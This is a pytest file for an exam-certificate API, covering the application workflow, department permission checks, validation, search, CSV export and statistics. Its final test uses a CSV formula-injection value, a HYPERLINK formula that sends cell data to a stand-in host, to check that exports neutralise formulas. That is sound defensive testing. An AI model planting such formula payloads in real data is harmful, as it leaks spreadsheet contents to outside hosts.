"""p12 over the HTTP API: the whole flow, department guards, validation, scoping."""

from __future__ import annotations

import csv
import io
from datetime import date

from tests.conftest import ApiClients
from tests.practices.exam_certificates.factories import application_body, id_number

BASE = "/api/exam-certificates"


def _register(api: ApiClients, user: str = "ent.a", **overrides: object) -> dict:
    response = api.as_(user).post(f"{BASE}/applications", json=application_body(**overrides))
    assert response.status_code == 201, response.text
    return response.json()


def _scores(api: ApiClients, app_id: str, theory: int, practical: int) -> dict:
    response = api.as_("exam.officer").post(
        f"{BASE}/applications/{app_id}/scores",
        json={
            "theory_score": theory,
            "practical_score": practical,
            "exam_date": date.today().isoformat(),
        },
    )
    assert response.status_code == 200, response.text
    return response.json()


def _decide_all(api: ApiClients, application: dict) -> dict[str, dict]:
    officers = {
        "emergency": "emergency.officer",
        "hrss": "hrss.officer",
        "housing": "housing.officer",
    }
    decided = {}
    for request in application["requests"]:
        if request["status"] != "eligible":
            continue
        response = api.as_(officers[request["department"]]).post(
            f"{BASE}/requests/{request['id']}/decision", json={"note": "reviewed"}
        )
        assert response.status_code == 200, response.text
        decided[request["certificate_code"]] = response.json()
    return decided


def test_three_certificates_from_one_exam(api: ApiClients) -> None:
    application = _register(api)
    assert application["status"] == "checked"
    assert {r["status"] for r in application["requests"]} == {"eligible"}
    _scores(api, application["id"], 85, 88)
    decided = _decide_all(api, application)
    assert {code: r["status"] for code, r in decided.items()} == {
        "EM-LV-ELEC": "issued",
        "HR-ELEC-JR": "issued",
        "CW-WEAK-5": "issued",
    }
    final = api.as_("ent.a").get(f"{BASE}/applications/{application['id']}").json()
    assert final["status"] == "decided"
    for request in final["requests"]:
        assert request["certificate_number"].startswith(request["certificate_code"])
        assert request["decision"]["fired"][0]["citation"]


def test_theory_72_gives_two_certificates_and_says_why(api: ApiClients) -> None:
    application = _register(api)
    _scores(api, application["id"], 72, 90)
    decided = _decide_all(api, application)
    assert decided["EM-LV-ELEC"]["status"] == "refused"
    assert decided["EM-LV-ELEC"]["decision"]["fired"][0]["row_id"] == "IS-SO-FAIL"
    assert decided["HR-ELEC-JR"]["status"] == "issued"
    assert decided["CW-WEAK-5"]["status"] == "issued"


def test_minor_is_checked_per_certificate(api: ApiClients) -> None:
    today = date.today()
    birth = date(today.year - 17, 1, 1)
    application = _register(
        api, candidate={"id_number": id_number(birth)}, apprenticeship_done=True
    )
    statuses = {r["certificate_code"]: r["status"] for r in application["requests"]}
    assert statuses == {
        "EM-LV-ELEC": "ineligible",
        "HR-ELEC-JR": "eligible",
        "CW-WEAK-5": "ineligible",
    }
    em = next(r for r in application["requests"] if r["certificate_code"] == "EM-LV-ELEC")
    assert "SO-AGE-MIN" in [row["row_id"] for row in em["eligibility"]["fired"]]


def test_nothing_eligible_closes_without_exam(api: ApiClients) -> None:
    application = _register(
        api,
        candidate={"health_ok": False, "education": 1},
        certificates=["EM-LV-ELEC", "CW-WEAK-5"],
    )
    assert application["status"] == "decided"
    assert {r["status"] for r in application["requests"]} == {"ineligible"}


def test_department_can_only_decide_its_own_certificate(api: ApiClients) -> None:
    application = _register(api)
    _scores(api, application["id"], 90, 90)
    em = next(r for r in application["requests"] if r["department"] == "emergency")
    response = api.as_("hrss.officer").post(f"{BASE}/requests/{em['id']}/decision", json={})
    assert response.status_code == 403
    assert response.headers["content-type"].startswith("application/problem+json")


def test_only_exam_centre_records_scores(api: ApiClients) -> None:
    application = _register(api)
    response = api.as_("hrss.officer").post(
        f"{BASE}/applications/{application['id']}/scores",
        json={"theory_score": 90, "practical_score": 90, "exam_date": "2026-01-05"},
    )
    assert response.status_code == 403
    unchanged = api.as_("ent.a").get(f"{BASE}/applications/{application['id']}").json()
    assert unchanged["theory_score"] is None and unchanged["status"] == "checked"


def test_decision_before_exam_is_a_conflict(api: ApiClients) -> None:
    application = _register(api)
    em = next(r for r in application["requests"] if r["department"] == "emergency")
    response = api.as_("emergency.officer").post(f"{BASE}/requests/{em['id']}/decision", json={})
    assert response.status_code == 409


def test_edit_before_exam_checks_again(api: ApiClients) -> None:
    application = _register(api, candidate={"health_ok": False})
    statuses = {r["certificate_code"]: r["status"] for r in application["requests"]}
    assert statuses == {
        "EM-LV-ELEC": "ineligible",
        "HR-ELEC-JR": "eligible",
        "CW-WEAK-5": "ineligible",
    }
    response = api.as_("ent.a").patch(
        f"{BASE}/applications/{application['id']}", json={"health_ok": True}
    )
    assert response.status_code == 200, response.text
    assert {r["status"] for r in response.json()["requests"]} == {"eligible"}


def test_edit_after_exam_is_refused(api: ApiClients) -> None:
    application = _register(api)
    _scores(api, application["id"], 90, 90)
    response = api.as_("ent.a").patch(
        f"{BASE}/applications/{application['id']}", json={"experience_years": 9}
    )
    assert response.status_code == 409


def test_wrong_trade_certificate_is_rejected_with_field(api: ApiClients) -> None:
    response = api.as_("ent.a").post(
        f"{BASE}/applications", json=application_body(certificates=["EM-WELD-CUT"])
    )
    assert response.status_code == 422
    problem = response.json()
    assert problem["errors"][0]["field"] == "certificates.0"
    assert api.as_("ent.a").get(f"{BASE}/applications").json()["total"] == 0


def test_two_certificates_of_one_department_rejected(api: ApiClients) -> None:
    body = application_body(certificates=["HR-ELEC-JR", "HR-ELEC-MID"])
    response = api.as_("ent.a").post(f"{BASE}/applications", json=body)
    assert response.status_code == 422
    assert "one certificate per department" in response.json()["detail"]


def test_invalid_identity_number(api: ApiClients) -> None:
    body = application_body(candidate={"id_number": "420502199001011235"})
    response = api.as_("ent.a").post(f"{BASE}/applications", json=body)
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "candidate.id_number"


def test_officer_must_name_employer(api: ApiClients) -> None:
    response = api.as_("exam.officer").post(f"{BASE}/applications", json=application_body())
    assert response.status_code == 422
    ok = api.as_("exam.officer").post(
        f"{BASE}/applications", json=application_body(employer_code="yc-build-b")
    )
    assert ok.status_code == 201


def test_list_search_paginate_and_export(api: ApiClients) -> None:
    for index in range(3):
        _register(api, candidate={"full_name": f"分页{index}"})
    client = api.as_("ent.a")
    page = client.get(f"{BASE}/applications", params={"size": 2, "page": 2}).json()
    assert page["total"] == 3 and len(page["items"]) == 1
    found = client.get(f"{BASE}/applications", params={"q": "分页1"}).json()
    assert [a["candidate"]["full_name"] for a in found["items"]] == ["分页1"]
    csv_text = client.get(f"{BASE}/applications.csv").text
    assert csv_text.count("分页") == 9  # three certificates per application


def test_history_records_every_transition(api: ApiClients) -> None:
    application = _register(api)
    _scores(api, application["id"], 90, 90)
    _decide_all(api, application)
    history = api.as_("ent.a").get(f"{BASE}/applications/{application['id']}/history").json()
    actions = [entry["action"] for entry in history]
    assert actions.count("transition:accept") == 3
    assert actions.count("transition:issue") == 3
    assert {"transition:check", "transition:record_scores", "transition:close"} <= set(actions)
    actors = {e["actor_username"] for e in history if e["action"] == "transition:issue"}
    assert actors == {"emergency.officer", "hrss.officer", "housing.officer"}


def test_statistics_count_records(api: ApiClients) -> None:
    first = _register(api)
    _scores(api, first["id"], 90, 90)
    _decide_all(api, first)
    second = _register(api, user="ent.b")
    _scores(api, second["id"], 70, 70)
    _decide_all(api, second)
    stats = api.as_("exam.officer").get(f"{BASE}/statistics").json()
    assert stats["candidates"] == 2
    assert stats["by_certificates_issued"] == {"3": 1, "2": 1, "1": 0, "0": 0}
    own = api.as_("ent.b").get(f"{BASE}/statistics").json()
    assert own["candidates"] == 1 and own["by_certificates_issued"]["2"] == 1


def test_catalog_is_public_and_has_15_certificates(api: ApiClients) -> None:
    catalog = api.anonymous().get(f"{BASE}/catalog").json()
    assert len(catalog["certificates"]) == 15
    assert len({c["trade"] for c in catalog["certificates"]}) == 4
    assert len({c["department"] for c in catalog["certificates"]}) == 3
    flows = api.anonymous().get(f"{BASE}/workflows").json()
    assert flows["application"].startswith("stateDiagram-v2")


def test_candidate_looks_up_own_results(api: ApiClients) -> None:
    number = id_number()
    application = _register(api, candidate={"id_number": number})
    public = api.anonymous()
    found = public.post(
        f"{BASE}/lookup", json={"id_number": number, "application_id": application["id"]}
    )
    assert found.status_code == 200
    assert len(found.json()["requests"]) == 3
    wrong = public.post(
        f"{BASE}/lookup", json={"id_number": id_number(), "application_id": application["id"]}
    )
    assert wrong.status_code == 404


def test_the_export_never_hands_a_spreadsheet_a_formula(api: ApiClients) -> None:
    """A candidate name typed as a formula is exported quoted, so a spreadsheet shows it."""
    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
    application = _register(api, candidate={"full_name": typed})
    exported = api.as_("ent.a").get(f"{BASE}/applications.csv").text
    rows = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
            if r["application_id"] == application["id"]]  # fmt: skip
    assert rows and all(r["candidate"] == "'" + typed for r in rows)
